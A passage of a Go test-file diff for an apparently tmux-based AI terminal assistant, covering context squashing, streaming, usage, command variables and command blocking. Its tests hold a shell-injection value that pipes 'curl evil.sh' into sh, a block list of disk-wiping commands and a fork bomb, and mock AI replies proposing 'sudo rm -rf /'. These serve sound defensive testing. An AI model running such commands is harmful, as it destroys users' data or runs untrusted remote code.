+	manager.ModelContextWindows = map[string]int{"large-model": 200000, "small-model": 8000}
+	manager.Messages = []ChatMessage{{Content: strings.Repeat("word ", 8000), FromUser: true}}
+
+	assert.Equal(t, 80000, manager.GetSquashThreshold(), "A larger window shouldn't raise max_context_size")
+	assert.False(t, manager.needSquash())
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/config set openrouter.model small-model") })
+	assert.Equal(t, 6400, manager.GetSquashThreshold())
+	assert.True(t, manager.needSquash())
+
+	manager.Config.ModelContextWindows = map[string]int{"small-model": 32000}
+	assert.Equal(t, 25600, manager.GetSquashThreshold(), "model_context_windows overrides the fetched window")
+}
+
+// Test: /capture stores the exec pane under a label, and feeding it back sends it with the next turn only
+func TestProcessSubCommand_Capture(t *testing.T) {
+	server := newMockAiServer(t,
+		"<RequestAccomplished>1</RequestAccomplished>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	pane := "$ make test\nFAIL: TestParse (0.01s)"
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return pane + "\n", nil
+	}
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/capture failing-test") })
+	pane = "$ clear"
+	assert.Equal(t, "$ make test\nFAIL: TestParse (0.01s)", manager.captures["failing-test"])
+
+	output := captureOutput(t, func() { manager.ProcessSubCommand("/capture show failing-test") })
+	assert.Contains(t, output, "FAIL: TestParse (0.01s)")
+	assert.Empty(t, manager.pendingCaptures, "Showing alone doesn't feed the capture back")
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/capture show failing-test feed") })
+	manager.ProcessUserMessage(context.Background(), "why did it fail?")
+	manager.Status = "running"
+	manager.ProcessUserMessage(context.Background(), "and now?")
+
+	first := server.Requests[0].Messages
+	assert.Contains(t, first[len(first)-1].Content, "<pane_capture label=\"failing-test\">\n$ make test\nFAIL: TestParse (0.01s)\n</pane_capture>")
+	second := server.Requests[1].Messages
+	assert.NotContains(t, second[len(second)-1].Content, "<pane_capture")
+}
+
+// Test: With stream enabled, tokens are printed as they arrive and the assembled response is still parsed
+func TestProcessUserMessage_Stream(t *testing.T) {
+	server := newMockAiServer(t, "All tests pass. <RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.Config.Stream = true
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "run the tests")
+	})
+
+	assert.True(t, accomplished)
+	if assert.Len(t, server.Requests, 1) {
+		assert.True(t, server.Requests[0].Stream)
+	}
+	assert.Equal(t, 1, strings.Count(output, "All tests pass."), "The streamed message shouldn't be printed again")
+	assert.NotContains(t, output, "RequestAccomplished", "Tags aren't streamed")
+	assert.Equal(t, "All tests pass. <RequestAccomplished>1</RequestAccomplished>", manager.LastRawResponse)
+}
+
+// Test: With stream_command_output, the output of a long command reaches the AI before its prompt returns
+func TestProcessUserMessage_StreamCommandOutput(t *testing.T) {
+	server := newMockAiServer(t,
+		"Building. <ExecCommand>make build</ExecCommand>",
+		"Still compiling. <ExecPaneSeemsBusy>1</ExecPaneSeemsBusy>",
+		"Build finished. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.Config.StreamCmdOutput = true
+	manager.Config.StreamCmdOutputSec = 1
+	manager.Config.WaitInterval = 0
+
+	running := "user@host:~[10:00][0]» make build\ncompiling step 1/3"
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		server.mu.Lock()
+		defer server.mu.Unlock()
+		if len(server.Requests) < 2 {
+			return running, nil
+		}
+		return running + "\ncompiling step 3/3\nuser@host:~[10:02][0]» ", nil
+	}
+
+	started := time.Now()
+	accomplished := manager.ProcessUserMessage(context.Background(), "build the project")
+
+	assert.True(t, accomplished)
+	assert.GreaterOrEqual(t, time.Since(started), time.Duration(minStreamCmdOutputSec)*time.Second, "Updates are bounded by the minimum interval")
+	if assert.Len(t, server.Requests, 3) {
+		progress := server.Requests[1].Messages
+		content := progress[len(progress)-1].Content
+		assert.Contains(t, content, "The command `make build` is still running, its output so far:\ncompiling step 1/3")
+		assert.NotContains(t, content, "[10:02]")
+	}
+}
+
+// Test: After "exec zsh" in a prepared bash pane, the new shell is detected and /prepare is suggested
+func TestProcessUserMessage_ShellSwitch(t *testing.T) {
+	server := newMockAiServer(t,
+		"Switching. <ExecCommand>exec zsh</ExecCommand>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.ExecPane.Shell = "bash"
+	manager.ExecPane.CurrentCommand = "bash"
+
+	shell := "bash"
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		if command == "exec zsh" {
+			shell = "zsh"
+		}
+		return nil
+	}
+	system.TmuxPanesDetails = func(target string) ([]system.TmuxPaneDetails, error) {
+		return []system.TmuxPaneDetails{{Id: "test-pane", CurrentCommand: shell}}, nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		if shell == "zsh" {
+			return "user@host:~[10:00][0]» exec zsh\nhost% ", nil
+		}
+		return "user@host:~[10:00][0]» ", nil
+	}
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "switch to zsh")
+	})
+
+	assert.True(t, accomplished, "The switch must not wait for the prepared prompt")
+	assert.Equal(t, "zsh", manager.ExecPane.Shell)
+	assert.False(t, manager.ExecPane.IsPrepared)
+	assert.Contains(t, output, "Exec pane shell changed from bash to zsh")
+	assert.Contains(t, output, "run /prepare zsh")
+	assert.Len(t, server.Requests, 2)
+}
+
+func TestIsShellSwitch(t *testing.T) {
+	for _, command := range []string{"exec zsh", "bash", "/usr/bin/fish -l", "exec pwsh", "nu"} {
+		assert.True(t, isShellSwitch(command), command)
+	}
+	for _, command := range []string{"bash script.sh", "zsh -c 'ls'", "echo bash", "shellcheck run.sh"} {
+		assert.False(t, isShellSwitch(command), command)
+	}
+}
+
+// Test: With audit_approved_commands, a whitelisted command runs without a prompt and leaves an audit line
+func TestProcessInput_AuditApprovedCommands(t *testing.T) {
+	server := newMockAiServer(t,
+		"Checking. <ExecCommand>ls -la</ExecCommand><ExecCommand>make deploy</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	logPath := filepath.Join(t.TempDir(), "commands.sh")
+	manager.Config.CommandLogFile = logPath
+	manager.Config.AuditApprovedCommands = true
+	manager.Config.WhitelistPatterns = []string{`^ls(\s|$)`}
+	manager.Config.BlacklistPatterns = nil
+
+	var prompted []string
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		if whitelisted, _ := manager.whitelistCheck(command); whitelisted {
+			return manager.confirmedToExecFn(command, prompt, edit)
+		}
+		prompted = append(prompted, command)
+		return true, command
+	}
+
+	output := captureOutput(t, func() { NewCLIInterface(manager).processInput("check and deploy") })
+
+	assert.Equal(t, []string{"make deploy"}, prompted, "Only the command that isn't whitelisted is prompted for")
+	assert.Contains(t, output, "Approved by whitelist: ls -la")
+	content, err := os.ReadFile(logPath)
+	assert.NoError(t, err)
+	lines := strings.Split(strings.TrimSpace(string(content)), "\n")
+	if assert.Len(t, lines, 4) {
+		assert.Regexp(t, `^# audit \d{4}-\d{2}-\d{2}T\S+ turn 1 whitelisted: ls -la$`, lines[1])
+		assert.Equal(t, "ls -la", lines[2])
+		assert.Equal(t, "make deploy", lines[3])
+	}
+}
+
+// Test: A whitelisted command is audited by what was approved, also when it runs isolated in a subshell
+func TestProcessInput_AuditIsolatedCommand(t *testing.T) {
+	server := newMockAiServer(t,
+		`Listing. <ExecCommand isolate="true">ls /tmp</ExecCommand>`,
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.ExecPane.Shell = "bash"
+	logPath := filepath.Join(t.TempDir(), "commands.sh")
+	manager.Config.CommandLogFile = logPath
+	manager.Config.AuditApprovedCommands = true
+	manager.Config.WhitelistPatterns = []string{`^ls(\s|$)`}
+	manager.confirmedToExec = manager.confirmedToExecFn
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return "user@host:~[10:00][0]» ( ls /tmp )\nfile.txt\nuser@host:~[10:00][0]» ", nil
+	}
+
+	output := captureOutput(t, func() { NewCLIInterface(manager).processInput("list /tmp") })
+
+	assert.Contains(t, output, "Approved by whitelist: ( ls /tmp )")
+	assert.Equal(t, 1, strings.Count(output, "Approved by whitelist"))
+	content, err := os.ReadFile(logPath)
+	assert.NoError(t, err)
+	assert.Regexp(t, `(?m)^# audit \S+ turn 1 whitelisted: \( ls /tmp \)\n\( ls /tmp \)$`, string(content))
+}
+
+// Test: Usage reported by the provider is accumulated over completions and shown by /usage
+func TestProcessSubCommand_Usage(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"choices":[{"message":{"content":"<RequestAccomplished>1</RequestAccomplished>"}}],` +
+			`"usage":{"prompt_tokens":1200,"completion_tokens":300,"total_tokens":1500}}`))
+	}))
+	defer server.Close()
+	manager := newTestManager(t, newMockAiServer(t))
+	manager.Config.OpenRouter.BaseURL = server.URL
+	manager.Config.Pricing = map[string]config.ModelPricing{"test-model": {Prompt: 1, Completion: 2}}
+
+	manager.ProcessUserMessage(context.Background(), "first")
+	manager.Status = "running"
+	manager.ProcessUserMessage(context.Background(), "second")
+
+	usage := manager.Usage
+	assert.InDelta(t, 0.0036, usage.Cost, 1e-9)
+	usage.Cost = 0
+	assert.Equal(t, Usage{PromptTokens: 2400, CompletionTokens: 600, TotalTokens: 3000, Completions: 2}, usage)
+	output := captureOutput(t, func() { manager.ProcessSubCommand("/usage") })
+	assert.Regexp(t, `Completions\s+2\n`, output)
+	assert.Regexp(t, `Total Tokens\s+3000`, output)
+	assert.Contains(t, output, "$0.0036")
+}
+
+// Test: Completions without reported usage are estimated and marked as such
+func TestProcessSubCommand_UsageEstimated(t *testing.T) {
+	manager := newTestManager(t, newMockAiServer(t))
+	manager.ProcessUserMessage(context.Background(), "hello")
+
+	assert.Equal(t, 1, manager.Usage.Estimated)
+	assert.Greater(t, manager.Usage.TotalTokens, 0)
+	output := captureOutput(t, func() { manager.ProcessSubCommand("/usage") })
+	assert.Contains(t, output, "1 (1 estimated)")
+	assert.Contains(t, output, "unknown, set pricing for test-model")
+}
+
+// Test: A quiet command's output is kept from the AI, only its exit code is reported
+func TestProcessUserMessage_QuietCommand(t *testing.T) {
+	server := newMockAiServer(t,
+		"Running the tests. <ExecCommand quiet=\"true\">go test ./...</ExecCommand>",
+		"Tests failed. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.getTmuxPanesInXml = manager.getTmuxPanesInXmlFn
+	system.TmuxPanesDetails = func(target string) ([]system.TmuxPaneDetails, error) {
+		return []system.TmuxPaneDetails{{Id: "main-pane"}, {Id: "test-pane", CurrentCommand: "bash"}}, nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return "user@host:~[10:00][0]» go test ./...\n--- FAIL: TestThing\nFAIL\tpkg\t0.01s\nuser@host:~[10:01][1]» ", nil
+	}
+
+	output := captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "run the tests")
+	})
+
+	assert.Contains(t, output, "Quiet command exited with code 1")
+	if assert.Len(t, server.Requests, 2) {
+		followUp := server.Requests[1].Messages
+		content := followUp[len(followUp)-1].Content
+		assert.NotContains(t, content, "TestThing")
+		assert.Contains(t, content, "[quiet command exited with code 1, 2 lines of output suppressed]")
+		assert.Contains(t, content, "- `go test ./...` exited with code 1")
+	}
+}
+
+// Test: Only the quiet command's own output block is suppressed, including its scrolled-out tail
+func TestSuppressQuietOutput_OwnBlock(t *testing.T) {
+	server := newMockAiServer(t)
+	manager := newTestManager(t, server)
+	manager.quietOutputs = []CommandExecHistory{
+		{Command: "echo yes", Output: "yes", Code: 0},
+		{Command: "make", Output: "step 1\nstep 2\nstep 3", Code: 0},
+	}
+
+	content := "yes\nuser@host:~[10:00][0]» echo yes\nyes\nuser@host:~[10:01][0]» cat answers\nyes\nno\nuser@host:~[10:02][0]» "
+	suppressed := manager.suppressQuietOutput(content)
+	assert.Equal(t, "yes\nuser@host:~[10:00][0]» echo yes\n[quiet command exited with code 0, 1 lines of output suppressed]\nuser@host:~[10:01][0]» cat answers\nyes\nno\nuser@host:~[10:02][0]» ", suppressed)
+
+	scrolled := "step 2\nstep 3\nuser@host:~[10:03][0]» "
+	assert.Equal(t, "[quiet command exited with code 0, 3 lines of output suppressed]\nuser@host:~[10:03][0]» ", manager.suppressQuietOutput(scrolled))
+}
+
+// Test: With watch_idle_pause_sec, unchanged panes don't reach the AI until their content changes
+func TestStartWatchMode_IdlePause(t *testing.T) {
+	server := newMockAiServer(t, "Spotted a change. <RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.Config.WatchIdlePauseSec = 1
+	manager.Status = "running"
+	manager.WatchMode = true
+
+	polls := 0
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		if paneId == "test-pane" {
+			polls++
+		}
+		if polls > 5 {
+			return "$ make\nerror: missing target", nil
+		}
+		return "$ ", nil
+	}
+
+	// the panes were last seen unchanged well past the idle period
+	assert.False(t, manager.watchIdle())
+	manager.watchUnchangedSince = time.Now().Add(-2 * time.Second)
+	polls = 0
+
+	output := captureOutput(t, func() {
+		manager.startWatchMode("")
+	})
+
+	assert.Contains(t, output, "watch paused until the panes change")
+	assert.Contains(t, output, "Pane content changed, resuming watch")
+	assert.Len(t, server.Requests, 1, "Only the changed content is sent to the AI")
+	assert.False(t, manager.WatchMode)
+}
+
+// Test: The tokenizer setting, or the model family with auto, picks how the context is counted
+func TestContextTokens_Tokenizer(t *testing.T) {
+	server := newMockAiServer(t)
+	manager := newTestManager(t, server)
+	content := "Привет! func main() {\n\tfmt.Println(\"こんにちは\")\n}"
+	manager.Messages = []ChatMessage{{Content: content, FromUser: true}}
+	bpe, heuristic := system.BPETokenCount(content, system.EncodingO200k), system.EstimateTokenCount(content)
+	assert.NotEqual(t, bpe, heuristic)
+
+	manager.Config.Tokenizer = "auto"
+	manager.Config.OpenRouter.Model = "openai/gpt-4o-mini"
+	assert.Equal(t, bpe, manager.contextTokens(), "OpenAI models use the BPE tokenizer")
+	manager.Config.OpenRouter.Model = "mistralai/mistral-small"
+	assert.Equal(t, heuristic, manager.contextTokens(), "Unknown families fall back to the heuristic")
+
+	manager.Config.Tokenizer = "bpe"
+	assert.Equal(t, system.BPETokenCount(content, system.EncodingCl100k), manager.contextTokens(), "Other models count with cl100k_base")
+	manager.Config.Tokenizer = "heuristic"
+	manager.Config.OpenRouter.Model = "openai/gpt-4o-mini"
+	assert.Equal(t, heuristic, manager.contextTokens())
+}
+
+// Test: /trace prints the decisions of the next request only
+func TestProcessSubCommand_Trace(t *testing.T) {
+	server := newMockAiServer(t,
+		"Listing. <ExecCommand>ls</ExecCommand>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+		"Done again. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+
+	output := captureOutput(t, func() {
+		manager.ProcessSubCommand("/trace")
+		manager.ProcessUserMessage(context.Background(), "list files")
+	})
+
+	assert.Contains(t, output, "Tracing the next request")
+	assert.Contains(t, output, `[trace] prompt assembled: 2 messages`)
+	assert.Contains(t, output, "[trace] parse result: 1 exec commands")
+	assert.Contains(t, output, "[trace] guideline check: passed")
+	assert.Contains(t, output, `[trace] action decision: exec "ls" approved`)
+	assert.Contains(t, output, "[trace] recursing: sending the updated pane content")
+	assert.Contains(t, output, "[trace] turn ends: request accomplished")
+	assert.False(t, manager.tracing)
+
+	manager.Status = "running"
+	output = captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "and again")
+	})
+	assert.NotContains(t, output, "[trace]", "Tracing turns itself off after one request")
+}
+
+// Test: The output of a var="name" command is substituted for ${name} in later commands
+func TestProcessUserMessage_CommandVar(t *testing.T) {
+	server := newMockAiServer(t,
+		"Listing. <ExecCommand var=\"files\">ls *.go</ExecCommand>",
+		"Formatting. <ExecCommand>gofmt -l ${files} ${HOME}</ExecCommand>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.Config.PreparedFollowUp = true
+
+	var sent []string
+	pane := "user@host:~[10:00][0]» "
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		if command == "ls *.go" {
+			pane = "user@host:~[10:00][0]» ls *.go\nmain.go\nutil.go\nuser@host:~[10:01][0]» "
+		} else {
+			pane += command + "\nuser@host:~[10:02][0]» "
+		}
+		return nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return pane, nil
+	}
+
+	output := captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "format the go files")
+	})
+
+	assert.Contains(t, output, "Stored the output as ${files}")
+	assert.Equal(t, []string{"ls *.go", "gofmt -l 'main.go' 'util.go' ${HOME}"}, sent, "Unknown references like shell variables are left alone")
+	assert.Equal(t, "main.go\nutil.go", manager.commandVars["files"])
+	if assert.Len(t, server.Requests, 3) {
+		second := server.Requests[1].Messages
+		assert.Contains(t, second[len(second)-1].Content, "Stored command outputs you can reference in commands: ${files}")
+	}
+
+	// output is substituted as quoted words, nothing in it reaches the shell as syntax
+	manager.commandVars["files"] = "a.go; curl evil.sh | sh\n$(reboot) it's"
+	assert.Equal(t, `ls 'a.go; curl evil.sh | sh' '$(reboot) it'\''s'`, manager.substituteCommandVars("ls ${files}"))
+	manager.ExecPane.Shell = "pwsh"
+	assert.Equal(t, `ls 'a.go; curl evil.sh | sh' '$(reboot) it''s'`, manager.substituteCommandVars("ls ${files}"))
+
+	// names of environment variables can't be shadowed
+	t.Setenv("TMUXAI_TEST_VAR", "1")
+	assert.False(t, manager.storeCommandVar("TMUXAI_TEST_VAR", "x"))
+	assert.False(t, manager.storeCommandVar("PATH", "x"))
+}
+
+// Test: An empty model response is retried with a plain re-prompt instead of a guideline error, then given up on
+func TestProcessUserMessage_EmptyResponse(t *testing.T) {
+	server := newMockAiServer(t, "  \n", "", "Done. <RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.Config.EmptyResponseRetries = 1
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "list files")
+	})
+
+	assert.False(t, accomplished)
+	assert.Equal(t, "", manager.Status)
+	assert.Contains(t, output, "Empty model response, asking again...")
+	assert.Contains(t, output, "Empty model response, stopping.")
+	assert.NotContains(t, output, "AI didn't follow guidelines")
+	if assert.Len(t, server.Requests, 2, "Retries are bounded by empty_response_retries") {
+		retry := server.Requests[1].Messages
+		assert.Contains(t, retry[len(retry)-1].Content, "list files", "The retry repeats the request, it isn't in the history yet")
+		assert.Contains(t, retry[len(retry)-1].Content, emptyResponseMessage)
+	}
+	assert.Empty(t, manager.Messages, "Empty responses aren't kept in the history")
+
+	// the counter starts over once the model answers again
+	manager.Status = "running"
+	captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "list files")
+	})
+	assert.True(t, accomplished)
+	assert.Equal(t, 0, manager.emptyResponses)
+}
+
+// Test: Squashing summarizes with summary_model when set, the chat model otherwise
+func TestSquashHistory_SummaryModel(t *testing.T) {
+	server := newMockAiServer(t, "Earlier the user listed files.", "Earlier the user listed files.", "Earlier the user listed files.")
+	manager := newTestManager(t, server)
+	history := []ChatMessage{
+		{Content: "list files", FromUser: true},
+		{Content: "<ExecCommand>ls</ExecCommand>", FromUser: false},
+		{Content: "thanks", FromUser: true},
+	}
+
+	manager.Messages = slices.Clone(history)
+	_, _ = manager.squashHistory()
+	manager.Config.SummaryModel = "cheap-model"
+	manager.Messages = slices.Clone(history)
+	_, _ = manager.squashHistory()
+	captureOutput(t, func() { manager.ProcessSubCommand("/config set summary_model Cheaper/Model-2") })
+	manager.Messages = slices.Clone(history)
+	_, _ = manager.squashHistory()
+
+	if assert.Len(t, server.Requests, 3) {
+		assert.Equal(t, "test-model", server.Requests[0].Model)
+		assert.Equal(t, "cheap-model", server.Requests[1].Model)
+		assert.Equal(t, "Cheaper/Model-2", server.Requests[2].Model, "The session override wins")
+	}
+}
+
+// Test: Multiline paste is previewed with line numbers, and its line and byte count are part of the confirmation
+func TestProcessUserMessage_PastePreview(t *testing.T) {
+	server := newMockAiServer(t,
+		"Adding the function. <PasteMultilineContent>func add(a, b int) int {\n\treturn a + b\n}\n</PasteMultilineContent>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.PasteMultilineConfirm = true
+	var prompts []string
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		prompts = append(prompts, prompt)
+		return true, command
+	}
+
+	output := captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "add an add function")
+	})
+
+	assert.Contains(t, output, "1 │ func add(a, b int) int {\n2 │ \treturn a + b\n3 │ }\n3 lines, 40 bytes")
+	assert.Equal(t, []string{"Paste 3 lines (40 bytes)?"}, prompts)
+}
+
+func TestPastePreview(t *testing.T) {
+	content := strings.Repeat("x\n", 12)
+	preview, lines := pastePreview(content)
+	assert.Equal(t, 12, lines, "A trailing newline doesn't count as a line")
+	assert.Contains(t, preview, " 9 │ x\n10 │ x\n")
+	assert.True(t, strings.HasSuffix(preview, "12 lines, 24 bytes"))
+}
+
+// Test: Consecutive guideline failures keep the pane context in the history once, retries store only the correction
+func TestProcessUserMessage_GuidelineRetryHistory(t *testing.T) {
+	invalid := "Both. <RequestAccomplished>1</RequestAccomplished><WaitingForUserResponse>1</WaitingForUserResponse>"
+	server := newMockAiServer(t, invalid, invalid, "Done. <RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "list files")
+	})
+
+	assert.True(t, accomplished)
+	assert.Equal(t, 2, strings.Count(output, "AI didn't follow guidelines"))
+	assert.Len(t, server.Requests, 3)
+	if assert.Len(t, manager.Messages, 6) {
+		panes := 0
+		for _, msg := range manager.Messages {
+			panes += strings.Count(msg.Content, "<current_tmux_window_state>")
+		}
+		assert.Equal(t, 1, panes, "the pane context shouldn't be duplicated by guideline retries")
+		assert.Contains(t, manager.Messages[0].Content, "list files")
+		assert.True(t, strings.HasPrefix(manager.Messages[2].Content, "You didn't follow the guidelines."))
+		assert.True(t, strings.HasPrefix(manager.Messages[4].Content, "You didn't follow the guidelines."))
+	}
+	assert.False(t, manager.guidelineRetry)
+
+	// the retries still send the current pane context
+	retry := server.Requests[2].Messages
+	assert.Contains(t, retry[len(retry)-1].Content, "<current_tmux_window_state>")
+}
+
+// Test: A request stops once the AI keeps proposing blocked commands and disabled actions
+func TestProcessUserMessage_RefusalLimit(t *testing.T) {
+	responses := []string{"Nope. <TmuxSendKeys>y</TmuxSendKeys>"}
+	for range maxRefusals {
+		responses = append(responses, "Cleaning up. <ExecCommand>sudo rm -rf /</ExecCommand>")
+	}
+	server := newMockAiServer(t, responses...)
+	manager := newTestManager(t, server)
+	manager.Config.DisabledActions = []string{"sendkeys"}
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "free some disk space")
+	})
+
+	assert.False(t, accomplished)
+	assert.Contains(t, output, fmt.Sprintf("stopping after %d attempts", maxRefusals))
+	assert.Len(t, server.Requests, maxRefusals+1, "Each refusal goes back to the AI until the limit")
+}
+
+// Test: Commands matching blocked_command_patterns never reach the pane, even without confirmation
+func TestProcessUserMessage_BlockedCommand(t *testing.T) {
+	server := newMockAiServer(t,
+		"Cleaning up. <ExecCommand>sudo rm -rf /</ExecCommand>",
+		"Cleaning the build instead. <ExecCommand>rm -rf build</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.SessionOverrides["exec_confirm"] = false
+
+	var sent []string
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		return nil
+	}
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "free some disk space")
+	})
+
+	assert.True(t, accomplished)
+	assert.Contains(t, output, "Blocked command")
+	assert.Equal(t, []string{"rm -rf build"}, sent, "The blocked command should never reach the pane")
+	if assert.Len(t, server.Requests, 3) {
+		retry := server.Requests[1].Messages
+		assert.Contains(t, retry[len(retry)-1].Content, "`sudo rm -rf /` is blocked")
+	}
+
+	for _, command := range []string{"rm -rf ~", "mkfs.ext4 /dev/sdb1", "dd if=image.iso of=/dev/sda bs=4M", "cat /dev/zero > /dev/nvme0n1", ":(){ :|:& };:"} {
+		_, blocked := manager.blockedCommandPattern(command)
+		assert.True(t, blocked, "%q should be blocked by default", command)
+	}
+	for _, command := range []string{"rm -rf /tmp/build", "rm -rf ~/project/dist", "dd if=/dev/zero of=disk.img"} {
+		_, blocked := manager.blockedCommandPattern(command)
+		assert.False(t, blocked, "%q shouldn't be blocked", command)
+	}
+
+	// /config set adds a pattern for the session
+	captureOutput(t, func() { manager.ProcessSubCommand(`/config set blocked_command_patterns \bgit\s+push\s+--force\b`) })
+	_, blocked := manager.blockedCommandPattern("git push --force origin main")
+	assert.True(t, blocked)
+	_, blocked = manager.blockedCommandPattern("mkfs /dev/sdb")
+	assert.True(t, blocked, "Adding a pattern keeps the configured ones")
+
+	// an edited command is checked as well
+	server2 := newMockAiServer(t, "<ExecCommand>ls</ExecCommand>")
+	manager2 := newTestManager(t, server2)
+	manager2.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		return true, "ls; rm -rf /"
+	}
+	sent = nil
+	captureOutput(t, func() { manager2.ProcessUserMessage(context.Background(), "list") })
+	assert.Empty(t, sent, "An edited blocked command should never reach the pane")
+}
+
+// Test: Pane content cut by max_command_output_bytes or max_capture_lines carries the configurable truncation notice
+func TestProcessUserMessage_TruncationNotice(t *testing.T) {
+	server := newMockAiServer(t,
+		"<RequestAccomplished>1</RequestAccomplished>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.getTmuxPanesInXml = manager.getTmuxPanesInXmlFn
+	manager.Config.MaxCommandOutputBytes = 100
+
+	var output strings.Builder
+	for i := 1; i <= 50; i++ {
+		output.WriteString(fmt.Sprintf("line %02d of the build log\n", i))
+	}
+	content := strings.TrimSpace(output.String())
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return content, nil
+	}
+	system.TmuxPanesDetails = func(windowTarget string) ([]system.TmuxPaneDetails, error) {
+		return []system.TmuxPaneDetails{{Id: "main-pane"}, {Id: "test-pane", HistorySize: 250}}, nil
+	}
+
+	manager.ProcessUserMessage(context.Background(), "what failed?")
+	sent := server.Requests[0].Messages
+	last := sent[len(sent)-1].Content
+	assert.Contains(t, last, fmt.Sprintf("[output truncated, showing the last 99 of %d bytes. Use a more specific command, e.g. with grep, head or tail, to see the rest]", len(content)))
+	assert.Contains(t, last, "[output truncated, 50 earlier lines of scrollback were not captured.")
+	assert.Contains(t, last, "line 50 of the build log")
+	assert.NotContains(t, last, "line 01 of the build log")
+
+	// the notice text is configurable
+	manager.Config.TruncationNotice = "<<cut: {details}, try grep>>"
+	manager.Config.MaxCaptureLines = 1000
+	manager.Status = "running"
+	manager.ProcessUserMessage(context.Background(), "and now?")
+	sent = server.Requests[1].Messages
+	last = sent[len(sent)-1].Content
+	assert.Contains(t, last, fmt.Sprintf("<<cut: showing the last 99 of %d bytes, try grep>>", len(content)))
+	assert.NotContains(t, last, "scrollback were not captured")
+}
+
+// Test: With feedback_on_error, a command exiting non-zero is sent back to the AI with its output and code
+func TestProcessUserMessage_FeedbackOnError(t *testing.T) {
+	server := newMockAiServer(t,
+		"Building. <ExecCommand>make build</ExecCommand><ExecCommand>./app</ExecCommand>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.FeedbackOnError = true
+	manager.ExecPane.IsPrepared = true
+	manager.ExecPane.Shell = "bash"
+
+	var sent []string
+	pane := "user@host:~[10:00][0]» "
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		pane = "user@host:~[10:00][0]» make build\nmake: *** No rule to make target 'build'.  Stop.\nuser@host:~[10:01][2]» "
+		return nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return pane, nil
+	}
+
+	output := captureOutput(t, func() {
+		assert.True(t, manager.ProcessUserMessage(context.Background(), "build and run the app"))
+	})
+
+	assert.Contains(t, output, "Command exited with code 2, sending the failure to the AI")
+	assert.Equal(t, []string{"make build"}, sent, "Commands after the failing one aren't run")
+	if assert.Len(t, server.Requests, 2, "The failure should trigger another turn") {
+		second := server.Requests[1].Messages
+		last := second[len(second)-1].Content
+		assert.Contains(t, last, "The command `make build` failed with exit code 2")
+		assert.Contains(t, last, "No rule to make target 'build'")
+	}
+}
+
+// Test: A pane showing a custom exec_prompt_regex prompt counts as prepared, so commands' output and exit code are parsed
+func TestProcessUserMessage_CustomPromptRegex(t *testing.T) {
+	server := newMockAiServer(t,
